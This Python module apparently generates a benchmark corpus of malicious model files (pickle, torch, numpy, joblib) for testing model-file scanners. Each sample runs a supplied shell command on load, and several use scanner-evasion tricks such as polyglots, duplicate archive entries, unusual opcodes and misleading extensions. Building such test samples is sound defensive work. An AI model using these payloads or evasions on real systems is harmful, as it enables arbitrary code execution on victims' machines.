"""Container samples: class 3 (loader modelling), 6 (false claims) and 7 (second opinion)."""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from bench.fresh_corpus._ops import P2, P4, Call, call, dumps, glob, lit, s, sglob
from bench.fresh_corpus._spec import Spec, put, shell

PICKLESCAN_EXTENSIONS = "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr"
MODELSCAN_263 = "https://github.com/protectai/modelscan/issues/263"
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def _payload(m: str) -> Call:
    return Call(os.system, shell(m))


def _torch_zip(value: object) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buffer.getvalue()


def _legacy(value: object) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _legacy_pickle_spans(data: bytes) -> list[tuple[int, int]]:
    """Byte spans of the first four pickles of a legacy torch file (magic, protocol, sys_info, object)."""
    import pickletools

    stream, spans = io.BytesIO(data), []
    for _ in range(4):
        start = stream.tell()
        for opcode, _, _ in pickletools.genops(stream):
            if opcode.name == "STOP":
                break
        spans.append((start, stream.tell()))
    return spans


def _second_of(second_opcodes: bytes, m: str) -> bytes:
    """A pickle evaluating to its second item, after running the payload as the first: `getitem((payload, x), 1)`."""
    payload = call(glob("posix", "system"), s(shell(m)))
    return P2 + call(glob("_operator", "getitem"), payload + second_opcodes + b"\x86", b"K\x01") + b"."


# --- class 3 -----------------------------------------------------------------------------------


def pickle_zip_polyglot(f: Path, m: str) -> Path:
    """A payload pickle from byte 0 followed by a complete torch zip: zipfile sees a valid archive."""
    import torch

    data = dumps(_payload(m), 2) + _torch_zip({"w": torch.ones(2)})
    return put(f, "pytorch_model.bin", data)


def legacy_magic_slot(f: Path, m: str) -> Path:
    import torch

    data = _legacy({"w": torch.ones(2)})
    (start, end), *_ = _legacy_pickle_spans(data)
    magic = _second_of(lit(LEGACY_MAGIC), m)
    return put(f, "model.pt", data[:start] + magic + data[end:])


def legacy_sys_info_slot(f: Path, m: str) -> Path:
    import torch

    data = _legacy({"w": torch.ones(2)})
    spans = _legacy_pickle_spans(data)
    start, end = spans[2]
    info = pickle.loads(data[start:end])
    return put(f, "model.pt", data[:start] + _second_of(lit(info), m) + data[end:])


def legacy_tar_storages(f: Path, m: str) -> Path:
    """The pre-1.0 tar layout: torch.load extracts 'storages' and unpickles it before anything else."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2),
        "storages": dumps(_payload(m), 2),
        "tensors": pickle.dumps(0, 2),
        "pickle": pickle.dumps({}, 2),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return put(f, "model.pt", buffer.getvalue())


def torch_zip_custom_folder(f: Path, m: str) -> Path:
    """torch takes the archive folder from the first entry, any name: here 'checkpoint_v2/', not 'archive/'."""
    evil = [
        ("checkpoint_v2/" + name.split("/", 1)[1], data)
        for name, data in _members(_torch_zip({"hook": _payload(m)}))
    ]
    return put(f, "pytorch_model.bin", _zip(evil))


def torch_zip_duplicate_data_pkl(f: Path, m: str) -> Path:
    import torch

    members = _members(_torch_zip({"w": torch.ones(2)}))
    prefix = members[0][0].split("/", 1)[0]
    evil = dict(_members(_torch_zip({"hook": _payload(m)})))[f"{prefix}/data.pkl"]
    order = [*members, (f"{prefix}/data.pkl", evil)]  # the genuine data.pkl first, the payload later
    with_dupes = io.BytesIO()
    with zipfile.ZipFile(with_dupes, "w") as archive, __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")
        for name, data in order:
            archive.writestr(zipfile.ZipInfo(name), data)
    return put(f, "pytorch_model.bin", with_dupes.getvalue())


def torch_zip_deflated(f: Path, m: str) -> Path:
    data = _zip(_members(_torch_zip({"hook": _payload(m)})), zipfile.ZIP_DEFLATED)
    return put(f, "pytorch_model.bin", data)


def _npy(header: dict[str, object], version: tuple[int, int], body: bytes) -> bytes:
    text = repr(header).encode("latin1" if version[0] < 3 else "utf8")
    size_format = "<H" if version[0] == 1 else "<I"
    fixed = 6 + 2 + struct.calcsize(size_format)
    padding = 64 - (fixed + len(text) + 1) % 64
    text = text + b" " * padding + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(size_format, len(text)) + text + body


def npy_v3_header_object(f: Path, m: str) -> Path:
    header = {"shape": (1,), "fortran_order": False, "descr": "O"}
    return put(f, "embeddings.npy", _npy(header, (3, 0), dumps([_payload(m)], 2)))


def npy_structured_object_field(f: Path, m: str) -> Path:
    header = {"descr": [("w", "<f4"), ("meta", "|O")], "fortran_order": False, "shape": (1,)}
    return put(f, "weights.npy", _npy(header, (2, 0), dumps([(1.0, _payload(m))], 2)))


def npz_compressed_object(f: Path, m: str) -> Path:
    import numpy as np

    path = f / "arrays.npz"
    np.savez_compressed(path, w=np.ones(4), labels=np.array([_payload(m)], dtype=object))
    return path


def _joblib(f: Path, m: str, method: str, name: str) -> Path:
    import joblib
    import numpy as np

    path = f / name
    joblib.dump({"coef": np.ones(8), "hook": _payload(m)}, path, compress=(method, 3))
    return path


def pickle_leading_noops(f: Path, m: str) -> Path:
    """No PROTO: starts with NONE/POP, MARK/POP_MARK and an INT, then a text GLOBAL."""
    return put(
        f, "model.pkl", b"N0(I7\n1I01\n0" + glob("posix", "system") + b"(V" + shell(m).encode() + b"\ntR."
    )


def pickle_midstream_proto(f: Path, m: str) -> Path:
    """PROTO 2 at byte 0, PROTO 4 in the middle: STACK_GLOBAL after a protocol change."""
    return put(f, "model.pkl", P2 + b"]0" + P4 + sglob("posix", "system") + s(shell(m)) + b"\x85R.")


def int_text_forms(f: Path, m: str) -> Path:
    """copyreg extension code given as INT text in hex (int(x, 0)), used by EXT2; memo slots with '_' digits."""
    register = call(glob("copyreg", "add_extension"), s("posix"), s("system"), b"I0x1f3\n")
    body = register + b"0" + b"\x83\xf3\x01" + b"p0_1\n0" + b"g+1\n" + s(shell(m)) + b"\x85R."
    return put(f, "model.pkl", P2 + body)


def long_octal_extension(f: Path, m: str) -> Path:
    """Extension code as a LONG text literal in octal with the trailing 'L' (`L0o1762L`), used by EXT2."""
    register = call(glob("copyreg", "add_extension"), s("subprocess"), s("getoutput"), b"L0o1762L\n")
    return put(f, "model.pkl", P2 + register + b"0" + b"\x83\xf2\x03" + s(shell(m)) + b"\x85R.")


# --- class 6 -----------------------------------------------------------------------------------


def _named_pickle(name: str):
    def write(f: Path, m: str) -> Path:
        return put(f, name, dumps(_payload(m), 4))

    return write


def legacy_named_h5(f: Path, m: str) -> Path:
    return put(f, "tf_model.h5", _legacy({"hook": _payload(m)}))


def torch_zip_named_msgpack(f: Path, m: str) -> Path:
    return put(f, "flax_model.msgpack", _torch_zip({"hook": _payload(m)}))


def joblib_named_onnx(f: Path, m: str) -> Path:
    return _joblib(f, m, "zlib", "model.onnx")


def npz_named_bin(f: Path, m: str) -> Path:
    import numpy as np

    buffer = io.BytesIO()
    np.savez(buffer, labels=np.array([_payload(m)], dtype=object))
    return put(f, "pytorch_model.bin", buffer.getvalue())


def empty_model(f: Path, m: str) -> Path:
    return put(f, "model.safetensors", b"")


def unidentified_binary(f: Path, m: str) -> Path:
    return put(f, "model.onnx", bytes((i * 7919 + 13) % 251 for i in range(4096)))


# --- class 7 -----------------------------------------------------------------------------------


def torch_zip_named(name: str):
    def write(f: Path, m: str) -> Path:
        return put(f, name, _torch_zip({"hook": _payload(m)}))

    return write


def legacy_named(name: str):
    def write(f: Path, m: str) -> Path:
        return put(f, name, _legacy({"hook": _payload(m)}))

    return write


def _ref(path: str) -> str:
    return f"loader study: {path}"


SPECS: list[Spec] = [
    # class 3
    Spec(
        "pickle-zip-polyglot",
        3,
        "payload pickle at byte 0 plus a whole torch zip after it; torch.load takes the legacy path",
        _ref("torch/serialization.py:_is_zipfile/_legacy_load"),
        "torch",
        pickle_zip_polyglot,
    ),
    Spec(
        "legacy-magic-slot",
        3,
        "legacy torch file whose magic-number pickle runs the payload and still yields the magic",
        _ref("torch/serialization.py:_legacy_load (magic_number = pickle_module.load)"),
        "torch",
        legacy_magic_slot,
    ),
    Spec(
        "legacy-sys-info-slot",
        3,
        "legacy torch file whose sys_info pickle runs the payload and returns the real sys_info",
        _ref("torch/serialization.py:_legacy_load (sys_info)"),
        "torch",
        legacy_sys_info_slot,
    ),
    Spec(
        "legacy-tar-storages",
        3,
        "pre-1.0 tar checkpoint: the 'storages' member is unpickled first",
        _ref("torch/serialization.py:_legacy_load.legacy_load"),
        "torch",
        legacy_tar_storages,
    ),
    Spec(
        "torch-zip-custom-folder",
        3,
        "torch reads records under the first entry's folder, whatever its name ('checkpoint_v2/')",
        _ref("caffe2/serialize/inline_container.cc:PyTorchStreamReader::init (archive_name_)"),
        "torch",
        torch_zip_custom_folder,
    ),
    Spec(
        "torch-zip-duplicate-data-pkl",
        3,
        "two data.pkl entries, the payload second: torch (miniz) and zipfile both read the last",
        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82",
        "torch",
        torch_zip_duplicate_data_pkl,
    ),
    Spec(
        "torch-zip-deflated",
        3,
        "torch zip re-packed with DEFLATE members; miniz inflates data.pkl",
        _ref("caffe2/serialize/inline_container.cc:getRecord (mz_zip_reader_extract)"),
        "torch",
        torch_zip_deflated,
    ),
    Spec(
        "npy-v3-header-object",
        3,
        "hand-written .npy version 3.0 (utf8 header), descr 'O' without byte-order char",
        _ref("numpy/lib/format.py:_read_array_header/read_array"),
        "numpy",
        npy_v3_header_object,
    ),
    Spec(
        "npy-structured-object-field",
        3,
        "structured dtype with one object field: hasobject makes numpy unpickle",
        _ref("numpy/lib/format.py:read_array (dtype.hasobject)"),
        "numpy",
        npy_structured_object_field,
    ),
    Spec(
        "npz-compressed-object",
        3,
        "savez_compressed: the object array member is deflated inside the npz",
        _ref("numpy/lib/_npyio_impl.py:NpzFile.__getitem__"),
        "numpy",
        npz_compressed_object,
    ),
    Spec(
        "joblib-gzip",
        3,
        "joblib.dump(compress=('gzip', 3))",
        _ref("joblib/compressor.py:GzipCompressorWrapper"),
        "joblib",
        lambda f, m: _joblib(f, m, "gzip", "model.joblib"),
    ),
    Spec(
        "joblib-lzma",
        3,
        "joblib.dump(compress=('lzma', 3))",
        _ref("joblib/compressor.py:LZMACompressorWrapper"),
        "joblib",
        lambda f, m: _joblib(f, m, "lzma", "model.joblib"),
    ),
    Spec(
        "joblib-xz",
        3,
        "joblib.dump(compress=('xz', 3))",
        _ref("joblib/compressor.py:XZCompressorWrapper"),
        "joblib",
        lambda f, m: _joblib(f, m, "xz", "model.joblib"),
    ),
    Spec(
        "joblib-lz4",
        3,
        "joblib.dump(compress=('lz4', 3))",
        _ref("joblib/compressor.py:LZ4CompressorWrapper"),
        "joblib",
        lambda f, m: _joblib(f, m, "lz4", "model.joblib"),
    ),
    Spec(
        "joblib-bz2-named-pkl",
        3,
        "joblib bz2 stream named .pkl (magic BZh, not a pickle header)",
        _ref("joblib/numpy_pickle_utils.py:_detect_compressor"),
        "joblib",
        lambda f, m: _joblib(f, m, "bz2", "model.pkl"),
    ),
    Spec(
        "pickle-leading-noops",
        3,
        "pickle that opens with NONE/POP, MARK/POP_MARK and INT '01' before a protocol-0 GLOBAL",
        _ref("pickle.py:_Unpickler.load_int/load_pop_mark"),
        "pickle",
        pickle_leading_noops,
    ),
    Spec(
        "pickle-midstream-proto",
        3,
        "a second PROTO opcode mid-stream switches to protocol 4 before STACK_GLOBAL",
        _ref("pickle.py:_Unpickler.load_proto"),
        "pickle",
        pickle_midstream_proto,
    ),
    Spec(
        "int-text-forms",
        3,
        "extension code as INT text '0x1f3' (int(x, 0)) for EXT2; PUT/GET keys '0_1' and '+1'",
        _ref("pickle.py:load_int/load_put/load_get + copyreg.add_extension"),
        "pickle",
        int_text_forms,
    ),
    Spec(
        "long-octal-extension",
        3,
        "extension code as LONG text '0o1762L' for EXT2 to reach subprocess.getoutput",
        _ref("pickle.py:load_long/load_ext2"),
        "pickle",
        long_octal_extension,
    ),
    # class 6
    Spec(
        "pickle-named-safetensors",
        6,
        "a pickle named model.safetensors (torch.load routes *.safetensors to safe_open; "
        "pickle.load/joblib.load do not look at the name)",
        MODELSCAN_263,
        "pickle",
        _named_pickle("model.safetensors"),
    ),
    Spec(
        "pickle-named-onnx",
        6,
        "a pickle named model.onnx",
        MODELSCAN_263,
        "pickle",
        _named_pickle("model.onnx"),
    ),
    Spec(
        "pickle-named-gguf",
        6,
        "a pickle named model.gguf",
        MODELSCAN_263,
        "pickle",
        _named_pickle("model.gguf"),
    ),
    Spec(
        "pickle-named-npy",
        6,
        "a raw pickle named .npy: numpy.load(allow_pickle=True) falls back to pickle.load",
        _ref("numpy/lib/_npyio_impl.py:load (pickle fallback)"),
        "numpy",
        _named_pickle("features.npy"),
    ),
    Spec(
        "legacy-named-h5",
        6,
        "a legacy torch.save file named tf_model.h5",
        MODELSCAN_263,
        "torch",
        legacy_named_h5,
    ),
    Spec(
        "torch-zip-named-msgpack",
        6,
        "a torch zip checkpoint named flax_model.msgpack",
        MODELSCAN_263,
        "torch",
        torch_zip_named_msgpack,
    ),
    Spec(
        "joblib-named-onnx",
        6,
        "a zlib joblib dump named model.onnx",
        MODELSCAN_263,
        "joblib",
        joblib_named_onnx,
    ),
    Spec(
        "npz-named-bin",
        6,
        "an npz (zip of .npy, one object array) named pytorch_model.bin",
        _ref("numpy/lib/_npyio_impl.py:load (zip magic)"),
        "numpy",
        npz_named_bin,
    ),
    Spec(
        "empty-model-safetensors",
        6,
        "an empty file named model.safetensors (no payload: the claim is false)",
        "loader study: safetensors header (8-byte length) absent",
        "none",
        empty_model,
    ),
    Spec(
        "unidentified-binary-onnx",
        6,
        "4 KiB of unidentified bytes named model.onnx (no payload: the claim is false)",
        "loader study: onnx.load protobuf parse fails",
        "none",
        unidentified_binary,
    ),
    # class 7
    Spec(
        "joblib-named-sav",
        7,
        "scikit-learn's customary .sav extension on a joblib dump",
        PICKLESCAN_EXTENSIONS,
        "joblib",
        lambda f, m: _joblib(f, m, "zlib", "classifier.sav"),
    ),
    Spec(
        "pickle-named-p",
        7,
        "a pickle with the .p extension",
        PICKLESCAN_EXTENSIONS,
        "pickle",
        _named_pickle("model.p"),
    ),
    Spec(
        "pickle-uppercase-pkl",
        7,
        "a pickle named MODEL.PKL (upper case extension)",
        PICKLESCAN_EXTENSIONS,
        "pickle",
        _named_pickle("MODEL.PKL"),
    ),
    Spec(
        "torch-zip-pth-tar",
        7,
        "a torch zip named checkpoint.pth.tar (the common training-script name)",
        PICKLESCAN_EXTENSIONS,
        "torch",
        torch_zip_named("checkpoint.pth.tar"),
    ),
    Spec(
        "legacy-no-extension",
        7,
        "a legacy torch file with no extension at all",
        PICKLESCAN_EXTENSIONS,
        "torch",
        legacy_named("weights"),
    ),
    Spec(
        "pickle-named-mdl",
        7,
        "a pickle named model.mdl",
        PICKLESCAN_EXTENSIONS,
        "pickle",
        _named_pickle("model.mdl"),
    ),
    Spec(
        "torch-zip-bin-backup",
        7,
        "a torch zip named pytorch_model.bin.bak",
        PICKLESCAN_EXTENSIONS,
        "torch",
        torch_zip_named("pytorch_model.bin.bak"),
    ),
]
